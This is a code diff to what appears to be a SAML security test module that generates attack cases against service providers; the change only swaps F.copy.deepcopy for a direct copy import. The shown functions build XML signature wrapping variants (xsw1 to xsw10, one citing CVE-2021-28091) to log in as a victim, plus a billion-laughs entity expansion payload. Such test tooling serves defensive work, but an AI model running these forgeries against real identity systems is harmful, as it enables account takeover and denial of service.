@@ -15,6 +15,7 @@ Response (samlforge), each changing one thing. A case is
 Victim = the user the attacker wants to be (provisioned, licensed, never signed
 in); Mallory = the attacker's own account at the IdP (also provisioned).
 """
+import copy
 import time
 
 from lxml import etree
@@ -92,8 +93,8 @@ def _evil(assertion, victim):
 def xsw1(c):
     root = _mallory_signed_response(c)
     sig = F.signature_of(root)
-    copy = F.strip_signatures(F.copy.deepcopy(root))
-    sig.append(copy)
+    dup = F.strip_signatures(copy.deepcopy(root))
+    sig.append(dup)
     root.set("ID", F.rand_id())
     _evil(root.find(A + "Assertion"), c.victim)
     return F.dump(root)
@@ -102,8 +103,8 @@ def xsw1(c):
 def xsw2(c):
     root = _mallory_signed_response(c)
     sig = F.signature_of(root)
-    copy = F.strip_signatures(F.copy.deepcopy(root))
-    sig.addprevious(copy)
+    dup = F.strip_signatures(copy.deepcopy(root))
+    sig.addprevious(dup)
     root.set("ID", F.rand_id())
     _evil(root.find(A + "Assertion"), c.victim)
     return F.dump(root)
@@ -112,7 +113,7 @@ def xsw2(c):
 def xsw3(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    evil = F.strip_signatures(F.copy.deepcopy(signed))
+    evil = F.strip_signatures(copy.deepcopy(signed))
     evil.set("ID", F.rand_id())
     _evil(evil, c.victim)
     signed.addprevious(evil)
@@ -122,7 +123,7 @@ def xsw3(c):
 def xsw4(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    evil = F.strip_signatures(F.copy.deepcopy(signed))
+    evil = F.strip_signatures(copy.deepcopy(signed))
     evil.set("ID", F.rand_id())
     _evil(evil, c.victim)
     signed.addprevious(evil)
@@ -133,7 +134,7 @@ def xsw4(c):
 def xsw5(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    clean = F.strip_signatures(F.copy.deepcopy(signed))
+    clean = F.strip_signatures(copy.deepcopy(signed))
     signed.set("ID", F.rand_id())
     _evil(signed, c.victim)
     root.append(clean)
@@ -143,7 +144,7 @@ def xsw5(c):
 def xsw6(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    clean = F.strip_signatures(F.copy.deepcopy(signed))
+    clean = F.strip_signatures(copy.deepcopy(signed))
     signed.set("ID", F.rand_id())
     _evil(signed, c.victim)
     F.signature_of(signed).append(clean)
@@ -153,7 +154,7 @@ def xsw6(c):
 def xsw7(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    evil = F.strip_signatures(F.copy.deepcopy(signed))
+    evil = F.strip_signatures(copy.deepcopy(signed))
     _evil(evil, c.victim)
     ext = etree.Element(P + "Extensions")
     ext.append(evil)  # same ID as the signed one
@@ -164,7 +165,7 @@ def xsw7(c):
 def xsw8(c):
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    clean = F.strip_signatures(F.copy.deepcopy(signed))
+    clean = F.strip_signatures(copy.deepcopy(signed))
     signed.set("ID", F.rand_id())
     _evil(signed, c.victim)
     obj = etree.SubElement(F.signature_of(signed), DS + "Object")
@@ -176,7 +177,7 @@ def xsw10(c):
     # CVE-2021-28091: an unsigned Response, two Assertions, only the first signed
     root = _mallory_signed_assertion(c)
     signed = root.find(A + "Assertion")
-    evil = F.strip_signatures(F.copy.deepcopy(signed))
+    evil = F.strip_signatures(copy.deepcopy(signed))
     evil.set("ID", F.rand_id())
     _evil(evil, c.victim)
     signed.addnext(evil)
@@ -286,7 +287,7 @@ LAUGHS = ("<!DOCTYPE r [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;
 
 def _with_doctype(c, doctype, ref):
     xml = _signed_both(c)
-    body = F.etree.tostring(xml).decode()
+    body = etree.tostring(xml).decode()
     body = body.replace(">" + c.victim + "</", ">" + ref + "</", 1)
     return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + "\n" + body).encode()
 
@@ -390,7 +391,7 @@ def sha1_digest(c):
 
 def two_assertions(c):
     d = c.draft()
-    second = F.copy.deepcopy(d.assertion)
+    second = copy.deepcopy(d.assertion)
     second.set("ID", F.rand_id())
     d.assertion.addnext(second)
     return c.forge.sign(d, assertion=True, response=True)
